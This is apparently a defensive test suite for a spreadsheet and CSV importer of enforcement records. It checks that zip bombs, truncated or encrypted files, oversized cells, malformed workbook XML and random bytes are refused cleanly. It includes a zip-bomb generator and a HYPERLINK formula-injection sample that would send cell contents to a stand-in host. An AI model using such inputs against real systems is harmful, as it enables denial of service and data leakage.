"""Files that are no tables, or that are meant to hurt: refused with a reason, a sentence and a remedy; nothing else is raised."""

from __future__ import annotations

import io
import random
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from liangfa_enforcement_record.errors import refused_table
from liangfa_enforcement_record.importing import OutcomeKind, RowOutcome, TableRefused, open_table, read_drafts
from liangfa_enforcement_record.importing.rows import suggestion_for
from liangfa_enforcement_record.table_reading import checked
from liangfa_kit.errors import Invalid, PlatformError

NAMES = ["行政相对人名称", "行政处罚决定书文号", "违法行为类型", "违法事实", "处罚内容", "处罚决定日期"]
ROW = [
    "武汉甲商贸有限公司",
    "洪市监处罚〔2017〕12号",
    "销售假冒商品",
    "现场查获假冒服装120件，货值5479元。",
    "罚款2万元",
    "2017-01-08",
]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OLE = bytes.fromhex("d0cf11e0a1b11ae1")


def text(*rows: list[str]) -> bytes:
    return "".join(",".join(row) + "\r\n" for row in rows).encode()


def workbook(*rows: list[str]) -> bytes:
    book, file = Workbook(), io.BytesIO()
    for row in rows:
        book.worksheets[0].append(row)
    book.save(file)
    return file.getvalue()


def with_sheet(*pieces: bytes) -> bytes:
    """Return a workbook whose sheet is written from pieces, so that no large text need be held."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook(NAMES, ROW))) as old,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name != "xl/worksheets/sheet1.xml":
                new.writestr(name, old.read(name))
        with new.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            for piece in (f'<worksheet xmlns="{MAIN}"><sheetData>'.encode(), *pieces, b"</sheetData></worksheet>"):
                member.write(piece)
    return file.getvalue()


def read(content: bytes) -> list[RowOutcome]:
    table = open_table(io.BytesIO(content), "处罚")
    _header, suggestion = suggestion_for(table)
    return list(read_drafts(table, suggestion.mapping))


def refusal(content: bytes) -> TableRefused:
    with pytest.raises(TableRefused) as caught:
        read(content)
    return caught.value


def bomb() -> bytes:
    """Return some hundred kilobytes of workbook that unpack to a hundred million."""
    row = b'<row><c t="inlineStr"><is><t>' + b"a" * 1_000_000 + b"</t></is></c></row>"
    return with_sheet(*[row] * 100)


HOSTILE = {
    "nothing": (b"", "FILE_EMPTY"),
    "blanks": (b" \r\n\t\r\n", "FILE_EMPTY"),
    "a workbook cut in half": (workbook(NAMES, ROW)[:3_000], "FILE_TRUNCATED"),
    "a workbook without its end": (workbook(NAMES, ROW)[:-30], "FILE_TRUNCATED"),
    "OLE garbage": (OLE + bytes(range(256)) * 40, "FILE_TRUNCATED"),
    "an encrypted package": (OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600), "FILE_PASSWORD_PROTECTED"),
    "a zip bomb": (bomb(), "FILE_ZIP_BOMB"),
    "a million columns": (b"," * 1_000_000, None),
    "a million named columns": (b"a," * 1_000_000, None),
    "a hundred thousand columns": (b"a," * 100_000, "TABLE_TOO_WIDE"),
    "a cell of three million characters": (text(NAMES) + b"x" * 3_000_000 + b",\r\n", "CELL_TOO_LARGE"),
    "a quotation mark never closed": (text(NAMES) + b'"' + b"x\r\n" * 1_000_000, "CELL_TOO_LARGE"),
    "a workbook cell of three million characters": (
        with_sheet(b'<row><c t="inlineStr"><is><t>', b"x" * 3_000_000, b"</t></is></c></row>"),
        "CELL_TOO_LARGE",
    ),
    "a picture": (b"\x89PNG\r\n\x1a\n" + bytes(500), "FILE_FORMAT_UNKNOWN"),
    "prose": ("这是一封信。\r\n没有表格。\r\n".encode(), "TABLE_WITHOUT_HEADER"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_bad_file_is_refused_with_reason_sentence_and_remedy(name: str) -> None:
    """In both languages; the reason is the one that helps, where only one is right."""
    content, reason = HOSTILE[name]
    refused = refusal(content)
    assert reason is None or refused.reason == reason
    assert refused.message_zh
    assert refused.message_en
    assert refused.remedy_zh
    assert refused.remedy_en


# Bytes without meaning can be read as text in some encoding; at the latest nobody knows their columns.
NOISE = random.Random(20261123).randbytes(20_000)


@pytest.mark.parametrize("name", [*HOSTILE, "noise"])
def test_a_caller_hears_of_a_bad_file_as_an_invalid_argument(tmp_path: Path, name: str) -> None:
    """With the reason code, a Chinese sentence and what to do, before an import begins."""
    path = tmp_path / "table"
    path.write_bytes(NOISE if name == "noise" else HOSTILE[name][0])
    with pytest.raises(PlatformError) as caught:
        checked(path, "处罚.xlsx", "")
    assert isinstance(caught.value, Invalid)
    assert caught.value.reason
    assert caught.value.message_zh
    assert caught.value.remedy


def test_a_bomb_is_refused_in_little_memory() -> None:
    """A hundred million characters are never held."""
    content = bomb()
    assert len(content) < 1_000_000
    tracemalloc.start()
    try:
        assert refusal(content).reason == "FILE_ZIP_BOMB"
        assert tracemalloc.get_traced_memory()[1] < 20_000_000
    finally:
        tracemalloc.stop()


def test_a_header_alone_is_no_bad_file() -> None:
    """CSV or workbook: there is simply no case."""
    for content in (text(NAMES), workbook(NAMES)):
        assert [each.kind for each in read(content)] == [OutcomeKind.SKIPPED]


def test_formulas_are_never_computed() -> None:
    """The text of a formula is text, and a person is told."""
    formula = '=HYPERLINK("http://example.invalid/"&A1)'
    for content in (
        text(NAMES, [*ROW[:3], '"' + formula.replace('"', '""') + '"', *ROW[4:]]),
        workbook(NAMES, [*ROW[:3], formula, *ROW[4:]]),
    ):
        found = read(content)[-1]
        assert found.draft is not None
        assert found.draft.facts == formula
        assert "FORMULA_AS_TEXT" in {each.reason for each in found.problems}


def test_an_error_value_of_a_spreadsheet_is_no_amount() -> None:
    """#REF! under a money column keeps the row aside."""
    found = read(text([*NAMES, "罚款金额（元）"], [*ROW, "#REF!"]))[-1]
    assert found.kind is OutcomeKind.REJECTED


def read_or_refused(content: bytes) -> None:
    """Read a file to its end; a refusal must be one that a caller can be told."""
    try:
        read(content)
    except TableRefused as refused:
        error = refused_table(refused)
    else:
        return
    assert isinstance(error, Invalid)
    assert error.message_zh


_START = st.sampled_from(
    [b"", b"PK\x03\x04", OLE, b"<html><table><tr><td>", b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf", text(NAMES)]
)


@given(_START, st.binary(max_size=3_000))
def test_random_bytes_raise_nothing_but_refusals(start: bytes, rest: bytes) -> None:
    """Through header, mapping and rows, whatever kind of file they pretend to be."""
    read_or_refused(start + rest)


@given(st.lists(st.lists(st.text(max_size=15), max_size=8), max_size=10), st.sampled_from([",", ";", "\t", "，"]))
def test_random_tables_raise_nothing_but_refusals(rows: list[list[str]], delimiter: str) -> None:
    """Cells of any characters, rows of any width."""
    read_or_refused("\n".join(delimiter.join(row) for row in rows).encode("utf-8", "surrogatepass"))


_ROWS = ["<row>", "</row>", "<row/>", *(f'<row r="{number}">' for number in ("0", "-1", "x", "9" * 20))]
_ATTRIBUTES = [
    "",
    'r="A1"',
    'r="1"',
    'r="ZZZZZZ1" t="s"',
    't="s" s="99999"',
    's="x"',
    's="-1"',
    't="b"',
    't="d"',
    't="inlineStr"',
]
_VALUES = ["<v>", "</v>", "7", "-7", "1e999", "nan", "<f>", "</f>", "<is><t>x</t></is>"]
_XML = st.sampled_from([*_ROWS, *(f"<c {attributes}>" for attributes in _ATTRIBUTES), "</c>", *_VALUES])
_WHOLE_CELL = st.builds(
    lambda attributes, value: f"<c {attributes}>{value}</c>",
    st.sampled_from(_ATTRIBUTES),
    st.sampled_from(["", "<v>7</v>", "<v>-7</v>", "<v>x</v>", "<v>1e999</v>", "<f>1</f>", "<is/>"]),
)


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.lists(_XML, max_size=12) | st.lists(_WHOLE_CELL, max_size=6).map(lambda cells: ["<row>", *cells, "</row>"]))
def test_a_workbook_of_broken_markup_raises_nothing_but_refusals(pieces: list[str]) -> None:
    """Row numbers, styles, kinds and references that no program writes."""
    read_or_refused(with_sheet("".join(pieces).encode()))


@pytest.mark.parametrize("remark", ["<!-- -->", "<?x y?>"])
def test_remarks_inside_the_markup_of_a_cell_are_passed_over(remark: str) -> None:
    """A comment or an instruction to some program is no value, in a cell as in its text."""
    for cell in (f"<c>{remark}<v>7</v></c>", f'<c t="inlineStr"><is>{remark}<t>7</t></is></c>'):
        table = open_table(io.BytesIO(with_sheet(f"<row>{cell}</row>".encode())), "t")
        assert [row.cells for row in table.rows()] == [["7"]]


_FIGURES = ["7", "-7", "1e999", "99999999999999", "nan", "x", "-657435", "2958466", "0", "60", ""]


@settings(max_examples=100, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(
    st.lists(st.sampled_from(_FIGURES), min_size=1, max_size=3),
    st.sampled_from(["b", "d", "n", "e", "str", "s", "inlineStr"]),
)
def test_values_of_every_kind_in_a_cell_raise_nothing_but_refusals(values: list[str], kind: str) -> None:
    """Dates beyond the calendar, figures beyond any number, kinds that do not fit."""
    styled = "".join(f'<c s="{number}" t="{kind}"><v>{value}</v></c>' for number, value in enumerate(values))
    read_or_refused(with_sheet(f"<row>{styled}</row>".encode()))
